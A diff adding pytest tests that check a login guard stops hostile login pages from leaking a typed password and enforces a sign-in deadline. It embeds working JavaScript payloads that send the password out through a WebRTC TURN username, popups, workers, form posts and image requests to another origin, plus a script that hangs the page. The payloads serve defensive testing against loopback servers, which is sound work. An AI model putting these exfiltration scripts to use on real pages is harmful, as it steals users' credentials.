@@ -642,3 +642,136 @@ def test_a_page_the_password_was_typed_into_reaches_no_other_origin_whatever_it_
     refusal = next(line for line in output.splitlines() if "UntrustedEndpoint: refused" in line)
     assert elsewhere.url.split("//")[1] in refusal, refusal
     assert not [form for form in _every_encoding(PASSWORD) if form in output]
+
+
+class UdpListener:
+    """A TURN server's ear on loopback: keeps every datagram it receives, and answers a TURN Allocate
+    request that has no USERNAME with 401 and a realm and nonce (RFC 8656 section 7.2), so that the
+    client sends it again with its credentials."""
+
+    def __init__(self) -> None:
+        import socket
+        import threading
+
+        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.socket.bind(("127.0.0.1", 0))
+        self.port = self.socket.getsockname()[1]
+        self.datagrams: list[bytes] = []
+        threading.Thread(target=self._listen, daemon=True).start()
+
+    def _listen(self) -> None:
+        while True:
+            try:
+                datagram, sender = self.socket.recvfrom(65536)
+            except OSError:
+                return
+            self.datagrams.append(datagram)
+            if datagram[:2] == b"\x00\x03" and b"\x00\x06" not in datagram[20:]:  # Allocate, no USERNAME
+                self.socket.sendto(self._unauthorized(datagram[4:20]), sender)
+
+    @staticmethod
+    def _unauthorized(transaction: bytes) -> bytes:
+        import struct
+
+        def attribute(kind: int, value: bytes) -> bytes:
+            return struct.pack(">HH", kind, len(value)) + value + b"\0" * (-len(value) % 4)
+
+        attributes = attribute(0x0009, b"\0\0\x04\x01Unauthorized") + attribute(0x0014, b"x") + attribute(0x0015, b"n1")
+        return struct.pack(">HH", 0x0113, len(attributes)) + transaction + attributes
+
+    def close(self) -> None:
+        self.socket.close()
+
+
+# The security tester's page: as the password is typed, a peer connection whose TURN server (over UDP)
+# is given the password as its username; Chromium sends it in the TURN request's USERNAME attribute.
+WEBRTC_BY_SCRIPT = """document.addEventListener("input", () => {
+  const p = document.getElementById("password").value; if (!p) return;
+  try { const pc = new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:{port}?transport=udp",
+    username: p, credential: "x"}]}); pc.createDataChannel("x");
+    pc.createOffer().then(o => pc.setLocalDescription(o)); } catch (e) {} }, true);"""
+
+
+@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium")
+def test_a_login_page_sending_the_password_over_webrtc_sends_nothing_and_fails_naming_webrtc(tmp_path):
+    """Control: in a browser the suite does not guard, the page's TURN request reaches the UDP port
+    carrying the password. Guarded: no datagram leaves, and AUTH-01 fails naming WebRTC."""
+    from playwright.sync_api import sync_playwright
+
+    turn = UdpListener()
+    server = HostileServer({})
+    page_answer = _hostile_login_page("/account/login", WEBRTC_BY_SCRIPT.replace("{port}", str(turn.port)))
+    server.routes.update({"/.well-known/openid-configuration": server.discovery(), "/connect/authorize": page_answer})
+    try:
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=chromium_path(), args=["--no-sandbox"])
+            page = browser.new_page()
+            page.goto(server.url + "/connect/authorize")
+            page.fill("#password", PASSWORD)
+            page.wait_for_timeout(1500)
+            browser.close()
+        assert any(PASSWORD.encode() in datagram for datagram in turn.datagrams), "control: no TURN request came"
+        turn.datagrams.clear()
+        result = _sign_in_on_a_hostile_login_page(tmp_path, server.url, "browser")
+    finally:
+        server.close()
+        turn.close()
+    output = result.stdout + result.stderr
+    assert turn.datagrams == [], "the page's WebRTC connection sent UDP"
+    assert result.returncode == 1, output[-3000:]
+    refusal = next(line for line in output.splitlines() if "UntrustedEndpoint: refused" in line)
+    assert "over WebRTC (RTCPeerConnection" in refusal, refusal
+    assert not [form for form in _every_encoding(PASSWORD) if form in output]
+
+
+# A page that, once the password is typed, fires every channel every 150 ms (popups, workers, WebRTC,
+# form posts into new frames, images): the security tester's page held a run for more than 10 minutes.
+STORM_BY_SCRIPT = """const storm = () => {
+  const p = encodeURIComponent(document.getElementById("password").value), E = "{elsewhere}";
+  try { window.open(E + "/popup?d=" + p, "_blank"); } catch (e) {}
+  try { new Worker(URL.createObjectURL(new Blob(["fetch('" + E + "/worker?d=" + p + "')"]))); } catch (e) {}
+  try { new RTCPeerConnection({iceServers: [{urls: "turn:127.0.0.1:9?transport=udp", username: p,
+    credential: "x"}]}); } catch (e) {}
+  for (let i = 0; i < 25; i++) {
+    const f = document.createElement("iframe"); f.name = "f" + Math.random(); document.body.append(f);
+    const form = Object.assign(document.createElement("form"), {method: "POST", action: E + "/form", target: f.name});
+    form.append(Object.assign(document.createElement("input"), {name: "p", value: p})); document.body.append(form);
+    form.submit();
+    document.body.append(Object.assign(document.createElement("img"), {src: E + "/img?d=" + p + "&" + i}));
+  }
+};
+document.addEventListener("input", () => { storm(); setInterval(storm, 150); }, {once: true, capture: true});
+document.forms[0].onsubmit = event => event.preventDefault();"""
+# A page whose script, once the password is typed, never returns: Chromium answers nothing for it.
+BUSY_BY_SCRIPT = 'document.getElementById("password").addEventListener("change", () => { for (;;) {} });'
+
+
+@pytest.mark.skipif(chromium_path() is None and not os.environ.get("CI"), reason="needs Debian's chromium")
+@pytest.mark.parametrize(
+    "script, said",
+    [(STORM_BY_SCRIPT, "UntrustedEndpoint: refused"), (BUSY_BY_SCRIPT, "the browser sign-in did not end within 20 s")],
+    ids=["storm", "busy"],
+)
+def test_a_login_page_cannot_hold_the_sign_in_longer_than_its_deadline(tmp_path, script, said):
+    """The browser sign-in ends within 4 x login.browser.timeout (20 s here) whatever the page does
+    (before, a storm held a run for more than 10 minutes, and a page that never returns forever), with
+    its cause: the refusal of what the page sent, or the deadline when it sent nothing."""
+    import time
+
+    elsewhere = HostileServer({})
+    server = HostileServer({})
+    page_answer = _hostile_login_page("/account/login", script.replace("{elsewhere}", elsewhere.url))
+    server.routes.update({"/.well-known/openid-configuration": server.discovery(), "/connect/authorize": page_answer})
+    started = time.monotonic()
+    try:
+        result = _sign_in_on_a_hostile_login_page(tmp_path, server.url, "browser")
+    finally:
+        server.close()
+        elsewhere.close()
+    took = time.monotonic() - started
+    output = result.stdout + result.stderr
+    assert elsewhere.requests == [], elsewhere.requests[:3]
+    assert result.returncode == 1, output[-3000:]
+    assert said in output, output[-3000:]
+    assert took < 20 + 40, f"the run took {took:.0f} s"  # the deadline, and the run's own start and end
+    assert not [form for form in _every_encoding(PASSWORD) if form in output]
